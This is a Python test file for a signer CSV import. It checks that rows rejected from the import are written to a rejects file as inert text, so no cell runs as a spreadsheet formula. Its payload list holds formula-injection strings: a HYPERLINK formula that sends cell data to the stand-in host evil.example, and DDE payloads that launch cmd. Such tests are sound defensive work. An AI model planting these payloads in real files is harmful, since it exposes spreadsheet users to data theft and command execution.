"""The rejects file beside an import (delivery.signers.store) is safe to open in a spreadsheet:
no cell of it is ever run as a formula. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy import Engine

from delivery.signers.store import import_csv
from tests.support.imports import DECIDED
from tests.support.keys import TEST_KEYS

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTAB=1+1", "＝1+1"]


def test_rejected_rows_holding_formulas_are_written_as_inert_text(engine: Engine, campaign_id: int,
                                                                  tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["name", "email", "city", "country", "=1+1 header"])
        for payload in PAYLOADS:  # each row lacks a valid e-mail, so each is rejected
            writer.writerow([payload, "not-an-address", payload, "AM", payload])
        writer.writerow(["Good Signer", "good@example.org", "Yerevan", "AM", ""])
    report = import_csv(engine, campaign_id, source, now=NOW, keys=TEST_KEYS, options=DECIDED)
    assert report.rejects_file is not None
    with report.rejects_file.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "＝"))]
    header, *rejected = rows
    assert "'=1+1 header" in header
    assert [row[2] for row in rejected] == ["'" + p for p in PAYLOADS]  # kept, shown as typed
